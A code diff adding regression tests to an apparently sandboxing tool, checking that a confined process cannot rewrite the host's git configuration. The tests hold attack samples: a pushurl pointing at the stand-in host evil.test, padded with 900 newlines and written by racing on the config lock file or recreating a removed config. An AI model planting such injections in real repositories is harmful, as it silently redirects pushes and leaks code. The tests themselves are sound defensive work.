@@ -13,6 +13,8 @@ pub(super) fn cases(list: &mut Cases) {
     list.matrix("escape::l06_holds_the_names_that_git_obeys_during_a_run", stage_directory);
     list.users("escape::l06_git_works_beside_and_with_the_names_that_are_held", git_works);
     list.users("escape::l06_the_host_configures_a_worktree_during_a_run", worktree_configured);
+    list.users("escape::l06_no_stage_adds_to_the_configuration_of_a_worktree", written_beside_git);
+    list.users("escape::l06_no_stage_makes_a_configuration_that_the_host_removed", removed_by_host);
     list.on_a_host_of_root(|list| {
         list.once("escape::l06_an_index_of_another_user_stays", anothers_index);
     });
@@ -40,12 +42,69 @@ fn worktree_configured(cx: &Cx) {
     for (work, place) in [("", ".git"), ("linked", ".git/worktrees/linked")] {
         let mut live = cx.sh(&[], "echo ready; read -r go; exit 4").stdin_open().start();
         live.until_prints("ready");
-        git(cx, &cx.dir().join(work), "config --worktree core.abbrev 9");
+        git(cx, &cx.dir().join(work), "config --worktree core.sparseCheckout true");
         let done = live.wait();
         done.exits(4).says(&format!("{place}/config.worktree` was replaced on the host"));
         let said =
             fs::read_to_string(cx.dir().join(place).join("config.worktree")).expect("the configuration");
-        assert!(said.contains("abbrev = 9"), "{said}\n{done:?}");
+        assert!(said.contains("sparseCheckout = true"), "{said}\n{done:?}");
+    }
+}
+
+/// What a stage has made of a configuration would send the host's `git push` elsewhere.
+const ELSEWHERE: &str = "[remote \"origin\"]\n\tpushurl = https://evil.test/x.git\n";
+
+/// A stage writes to the file that git on the host is about to put in place.
+fn written_beside_git(cx: &Cx) {
+    git(cx, cx.dir(), "init -q .");
+    git(cx, cx.dir(), "config extensions.worktreeConfig true");
+    cx.write("append.py", &format!(
+        "import os\nprint('ready', flush=True)\nwhile True:\n  try: f = os.open('.git/config.worktree.lock', os.O_WRONLY)\n  \
+         except OSError: continue\n  os.write(f, b'\\n' * 900 + {ELSEWHERE:?}.encode()); os.close(f)\n"
+    ));
+    let mut live = cx.exeat(["run", "--", "python3", "append.py"]).start();
+    live.until_prints("ready");
+    for round in 0..8 {
+        let words = format!("config --worktree core.sparseCheckout {}", round % 2 == 0);
+        cx.outside(["sh", "-c", &format!("git {words}")]).cwd(cx.dir()).run();
+        std::thread::sleep(Duration::from_millis(30));
+    }
+    live.signal(Signal::SIGTERM);
+    let done = live.wait();
+    let said = fs::read_to_string(cx.dir().join(".git/config.worktree")).unwrap_or_default();
+    assert!(!said.contains("pushurl"), "{said}: {done:?}");
+}
+
+/// The host removes a configuration, and the stage makes one that would be right in a repository of its own. exeat may be killed then.
+fn removed_by_host(cx: &Cx) {
+    git(cx, cx.dir(), "init -q .");
+    git(cx, cx.dir(), "config extensions.worktreeConfig true");
+    let script =
+        format!("echo ready; while :; do [ -e \"$1\" ] || printf '{ELSEWHERE}' >\"$1\"; done 2>/dev/null")
+            .replace('\n', "\\n")
+            .replace('\t', "\\t");
+    for name in [".git/config.worktree", ".git/config"] {
+        for is_killed in [false, true] {
+            git(cx, cx.dir(), "config --worktree core.abbrev 9");
+            let path = cx.dir().join(name);
+            let before = fs::read(cx.dir().join(".git/config")).expect("a configuration");
+            let mut live = cx.exeat(["run", "--", "sh", "-c", &script, "sh", name]).start();
+            live.until_prints("ready");
+            fs::remove_file(&path).expect("a configuration");
+            if is_killed {
+                std::thread::sleep(Duration::from_millis(1));
+                live.signal(Signal::SIGKILL);
+            }
+            let mut told = format!("{:?}", live.wait());
+            wait_for(Duration::from_secs(20), "the end of a killed run", || {
+                told += &cx.sh(&[], "true").run().exits(0).stderr();
+                let said = fs::read_to_string(&path).unwrap_or_default();
+                (!said.contains("pushurl")).then_some(())
+            });
+            assert!(told.contains(&format!("{name}` was moved to")) || !is_killed, "{name}: {told}");
+            fs::write(cx.dir().join(".git/config"), &before).expect("a configuration");
+            cx.bench().give(&cx.dir().join(".git/config"), cx.is_root());
+        }
     }
 }
 
